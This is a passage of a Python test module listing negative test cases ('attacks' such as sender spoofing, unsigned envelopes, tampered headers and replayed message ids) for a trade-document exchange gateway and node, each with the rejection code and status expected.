    # the envelope: who sends, to whom, what, and again
    Attack("sender-spoofing", lambda f, mid: f.envelope(f.document(), mid, signer=f.world.node("BB")),
           gateway=Expect("sender-authentication", "GW-SENDER-MISMATCH", 403),
           node=Expect("sender-authentication", "NODE-SENDER-MISMATCH", 200)),
    Attack("unsigned-envelope", lambda f, mid: f.envelope(f.document(), mid, sign=False),
           gateway=Expect("sender-authentication", "GW-SENDER-NOT-AUTHENTICATED", 401),
           node=Expect("sender-authentication", "NODE-SENDER-NOT-AUTHENTICATED", 200)),
    Attack("header-changed-after-signing", _header_tampered,
           gateway=Expect("sender-authentication", "SIG-DIGEST-MISMATCH", 401),
           node=Expect("sender-authentication", "SIG-DIGEST-MISMATCH", 200)),
    Attack("wrong-receiver", lambda f, mid: f.envelope(f.document(), mid, receiver="CC"),
           gateway=Expect("routing", "GW-RECEIVER-UNKNOWN", 403), node=Expect("routing", "NODE-NOT-ADDRESSEE", 200)),
    Attack("self-addressed", lambda f, mid: f.envelope(f.document(), mid, receiver="AA"),
           gateway=Expect("envelope-schema", "ENV-PARTY-01", 422), node=Expect("envelope-schema", "ENV-PARTY-01", 200)),
    Attack("payload-is-another-type", lambda f, mid: f.envelope(f.document(PHYTO), mid),
           gateway=Expect("document-type", "GW-PAYLOAD-MISMATCH", 422),
           node=Expect("document-type", "NODE-PAYLOAD-MISMATCH", 200)),
    Attack("payload-not-base64", _payload_not_base64,
           gateway=Expect("envelope-schema", "INPUT-FIELD-INVALID", 422),
           node=Expect("envelope-schema", "INPUT-FIELD-INVALID", 200)),
    _not_trade("receipt-as-payload-naming-a-third-country", _receipt_as_payload("CC")),
    _not_trade("receipt-as-payload", _receipt_as_payload("AA")),
    _not_trade("envelope-as-payload", _envelope_as_payload),
    _not_trade("rejection-as-payload", _rejection_as_payload(lambda f: f.world.workspace.gateway_signer()),
               routed=False),
    _not_trade("rejection-as-payload-signed-by-the-sender", _rejection_as_payload(lambda f: f.world.node("AA")),
               routed=False),
    _not_trade("rejection-as-payload-declared-as-a-receipt",
               _rejection_as_payload(lambda f: f.world.workspace.gateway_signer(), type_id="receipt")),
    _not_trade("trust-list-as-payload", _trust_list_as_payload, routed=False),
    Attack("unknown-document-type", lambda f, mid: f.envelope(f.document(), mid, type_id="bill-of-lading"),
           gateway=Expect("document-type", "DOCTYPE-UNKNOWN", 403), node=Expect("document-type", "DOCTYPE-UNKNOWN", 200)),
    Attack("replay-known-id-other-payload", _replay_other_payload, prelude=lambda f, mid: f.message(mid),
           gateway=Expect("duplicate", "GW-DUPLICATE-CONFLICT", 409), node=Expect(None, "NODE-DUPLICATE-CONFLICT", 409)),
)

assert len({attack.name for attack in ATTACKS}) == len(ATTACKS), "attack names repeat"

__all__ = ["ATTACKS", "COO", "Attack", "Expect"]
